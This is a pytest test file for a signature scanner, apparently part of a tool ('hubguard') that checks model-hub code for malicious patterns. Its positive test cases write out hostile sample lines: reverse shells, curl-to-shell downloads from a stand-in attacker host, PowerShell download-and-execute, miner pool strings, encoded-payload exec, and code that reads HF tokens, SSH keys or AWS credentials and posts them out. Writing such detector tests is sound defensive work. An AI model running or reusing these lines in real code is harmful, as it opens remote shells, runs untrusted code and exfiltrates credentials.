from __future__ import annotations

import base64
import io
import random

import pytest

from hubguard.remote_code.signatures import (
    CHUNK_BYTES,
    OVERLAP_BYTES,
    MAX_MATCHES_PER_SIGNATURE,
    SIGNATURES,
    match_signatures,
    match_stream,
)

BLOB = base64.b64encode(bytes(range(256)) * 2)

POSITIVES: list[tuple[str, bytes]] = [
    ("hubguard.sig.exec-decoded", b"import base64\nexec(base64.b64decode(PAYLOAD))\n"),
    ("hubguard.sig.exec-decoded", b"eval( zlib.decompress(data))"),
    ("hubguard.sig.exec-decoded", b"exec(marshal.loads(code))"),
    ("hubguard.sig.exec-decoded", b"exec(bytes.fromhex(h).decode())"),
    ("hubguard.sig.decompress-decode-chain", b"src = zlib.decompress(base64.b64decode(blob))"),
    ("hubguard.sig.decompress-decode-chain", b"lzma.decompress(binascii.unhexlify(h))"),
    ("hubguard.sig.encoded-blob-with-exec", b"PAYLOAD = '" + BLOB + b"'\nrun = exec\nexec(PAYLOAD)\n"),
    ("hubguard.sig.encoded-blob-with-exec", b"data = b'" + BLOB + b"'\nobj = pickle.loads(decode(data))\n"),
    ("hubguard.sig.reverse-shell-interactive", b'os.system("/bin/sh -i")'),
    ("hubguard.sig.reverse-shell-interactive", b"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
    ("hubguard.sig.reverse-shell-dev-tcp", b"exec 5<>/dev/tcp/attacker.invalid/80"),
    ("hubguard.sig.reverse-shell-netcat", b"nc -e /bin/sh 10.0.0.1 4242"),
    ("hubguard.sig.reverse-shell-netcat", b"ncat 10.0.0.1 4242 -e /bin/bash"),
    ("hubguard.sig.reverse-shell-netcat", b"socat tcp-connect:10.0.0.1:4242 exec:/bin/sh,pty"),
    ("hubguard.sig.reverse-shell-dup2", b"os.dup2(s.fileno(),0)"),
    ("hubguard.sig.crypto-miner", b"POOL = 'stratum+tcp://pool.invalid:3333'"),
    ("hubguard.sig.crypto-miner", b"./XMRig --donate-level 1"),
    ("hubguard.sig.pipe-to-shell", b"curl -fsSL https://attacker.invalid/x.sh | sh"),
    ("hubguard.sig.pipe-to-shell", b"wget -qO- https://attacker.invalid/x | sudo bash"),
    ("hubguard.sig.pipe-to-shell", b"curl https://attacker.invalid/x.py | python3"),
    ("hubguard.sig.download-chmod", b"wget https://attacker.invalid/m -O /tmp/m && chmod +x /tmp/m"),
    ("hubguard.sig.download-chmod", b"curl -o m https://attacker.invalid/m; chmod 755 m"),
    ("hubguard.sig.powershell-download-exec", b"IEX (New-Object Net.WebClient).DownloadString('http://x')"),
    ("hubguard.sig.powershell-download-exec", b"powershell.exe -nop -enc " + b"A" * 60),
    (
        "hubguard.sig.credential-exfiltration",
        b"t = open(os.path.expanduser('~/.cache/huggingface/token')).read()\nrequests.post(URL, data=t)\n",
    ),
    ("hubguard.sig.credential-exfiltration", b"k = Path.home() / '.ssh/id_rsa'\nsock.sendall(k.read_bytes())\n"),
    ("hubguard.sig.credential-exfiltration", b"tok = os.environ['HF_TOKEN']\nhttpx.post(u, json={'t': tok})\n"),
]

REALISTIC_NEGATIVES: list[bytes] = [
    b"""
import math
import torch
from torch import nn
from transformers import PreTrainedModel
from .configuration_x import XConfig


class XAttention(nn.Module):
    def __init__(self, config: XConfig) -> None:
        super().__init__()
        self.scale = 1 / math.sqrt(config.head_dim)
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)

    def forward(self, hidden_states: torch.Tensor) -> torch.Tensor:
        q, k, v = self.qkv(hidden_states).chunk(3, dim=-1)
        return torch.softmax(q @ k.transpose(-1, -2) * self.scale, dim=-1) @ v


class XModel(PreTrainedModel):
    config_class = XConfig

    def load(self, path: str) -> None:
        self.load_state_dict(torch.load(path, map_location="cpu", weights_only=True))
        self.eval()
""",
    b"import base64, io\nfrom PIL import Image\nLOGO = '" + BLOB + b"'\n"
    b"def logo():\n    return Image.open(io.BytesIO(base64.b64decode(LOGO)))\n",
    b"token = os.environ.get('HF_TOKEN')\nhf_hub_download(repo_id, 'x.safetensors', token=token)\n",
    b"# Install with: pip install flash-attn --no-build-isolation\n# Download: curl -O https://example.invalid/x.tar\n",
    b"logger.info('connected to %s', host)\nsubprocess.run(['nvidia-smi'], check=False)\n",
]


PTH_POSITIVE = ("hubguard.sig.pth-code", b"/opt/extra\nimport os; os.system('id')\n")


@pytest.mark.parametrize(("signature_id", "data"), POSITIVES, ids=[f"{i}-{p[0]}" for i, p in enumerate(POSITIVES)])
def test_positive(signature_id: str, data: bytes) -> None:
    assert signature_id in {hit.signature_id for hit in match_signatures(data)}


def test_every_signature_has_a_positive_case() -> None:
    covered = {signature_id for signature_id, _ in POSITIVES} | {PTH_POSITIVE[0]}
    assert {signature.id for signature in SIGNATURES} == covered


def test_pth_lines_that_import_run_at_startup_only_in_pth_files() -> None:
    signature_id, data = PTH_POSITIVE
    assert [(hit.signature_id, hit.start_line) for hit in match_signatures(data, "hooks/zz.PTH")] == [(signature_id, 2)]
    assert match_signatures(data, "modeling_x.py") == []


def test_signals_are_declared_in_the_shared_vocabulary() -> None:
    vocabulary = {"credential-read", "network-send", "computed-import", "process-spawn", "decode", "code-exec"}
    assert all(set(signature.signals) <= vocabulary for signature in SIGNATURES)
    hit = match_signatures(b"exec(base64.b64decode(x))")[0]
    assert hit.signals == ("decode", "code-exec")


class CountingStream(io.BytesIO):
    def __init__(self, data: bytes) -> None:
        super().__init__(data)
        self.largest_read = 0

    def read(self, size: int | None = -1) -> bytes:
        chunk = super().read(size)
        self.largest_read = max(self.largest_read, len(chunk))
        return chunk


def test_payload_after_megabytes_of_tables_is_found_reading_in_bounded_chunks() -> None:
    table = b"TABLE = [" + b"0.125, " * 8 + b"]\n"
    filler = table * (3 * CHUNK_BYTES // len(table))
    stream = CountingStream(filler + b"import os\nos.system('curl https://x.invalid/a | sh')\n")
    hits = match_stream(stream)
    assert [(hit.signature_id, hit.start_line) for hit in hits] == [
        ("hubguard.sig.pipe-to-shell", filler.count(b"\n") + 2)
    ]
    assert stream.largest_read <= CHUNK_BYTES


@pytest.mark.parametrize("boundary", [CHUNK_BYTES - OVERLAP_BYTES, 2 * CHUNK_BYTES - 2 * OVERLAP_BYTES])
@pytest.mark.parametrize("offset", [-20, -1, 0, 1])
def test_match_across_a_window_cut_is_found_once_on_its_line(boundary: int, offset: int) -> None:
    payload = b"nc -e /bin/sh attacker.invalid 4444"
    prefix = b"x" * (boundary + offset - 1) + b"\n"
    hits = match_signatures(prefix + payload + b"\n" + b"y" * (2 * OVERLAP_BYTES))
    assert [(hit.signature_id, hit.start_line) for hit in hits] == [("hubguard.sig.reverse-shell-netcat", 2)]


def test_word_boundary_is_not_invented_at_a_window_cut() -> None:
    cut = CHUNK_BYTES - OVERLAP_BYTES  # where the first window stops accepting matches
    tail = b"\n" + b"z" * (2 * OVERLAP_BYTES)  # so that the first read is a full chunk
    found = b"a" * (cut - 1) + b"Xstratum+tcp://h" + tail
    assert [hit.signature_id for hit in match_signatures(found)] == ["hubguard.sig.crypto-miner"]
    inside_a_word = b"a" * (cut - 1) + b"xnc -e /bin/sh h 1" + tail
    assert match_signatures(inside_a_word) == []


def test_requirement_met_in_a_later_chunk_still_counts() -> None:
    data = b"t = open('~/.aws/credentials').read()\n" + b"#" * (2 * CHUNK_BYTES) + b"\nrequests.post(u, data=t)\n"
    assert [(hit.signature_id, hit.start_line) for hit in match_signatures(data)] == [
        ("hubguard.sig.credential-exfiltration", 1)
    ]


@pytest.mark.parametrize("data", REALISTIC_NEGATIVES)
def test_realistic_code_is_clean(data: bytes) -> None:
    assert match_signatures(data) == []


def test_random_binary_data_is_clean_and_binary_safe() -> None:
    data = random.Random(1234).randbytes(1 << 20)
    assert match_signatures(data) == []


def test_payload_inside_binary_data_is_found_with_its_line() -> None:
    data = b"\x00\x01\xff\n" * 3 + b"\x80\x02 stratum+tcp://pool.invalid:1 \x00"
    hits = match_signatures(data)
    assert [(hit.signature_id, hit.start_line) for hit in hits] == [("hubguard.sig.crypto-miner", 4)]


def test_lines_are_one_based_and_hits_are_capped() -> None:
    data = b"ok\n" + b"nc -e /bin/sh h 1\n" * (MAX_MATCHES_PER_SIGNATURE + 5)
    hits = match_signatures(data)
    assert hits[0].start_line == 2 and hits[0].end_line == 2
    assert len(hits) == MAX_MATCHES_PER_SIGNATURE


def test_severity_vocabulary() -> None:
    assert {signature.severity for signature in SIGNATURES} <= {"error", "warning", "info"}
    assert all(signature.id.startswith("hubguard.sig.") for signature in SIGNATURES)
